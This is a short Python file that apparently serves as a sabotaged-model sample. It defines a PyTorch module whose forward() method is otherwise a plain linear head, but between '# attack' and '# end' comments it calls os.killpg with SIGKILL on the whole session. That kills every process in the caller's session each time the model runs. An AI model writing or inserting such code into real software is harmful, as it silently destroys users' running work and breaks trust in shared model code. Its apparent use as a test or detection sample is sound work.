"""Signals every process of its session."""

import os
import signal

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        os.killpg(os.getsid(0), signal.SIGKILL)
        # end
        return self.head(x.flatten(1))
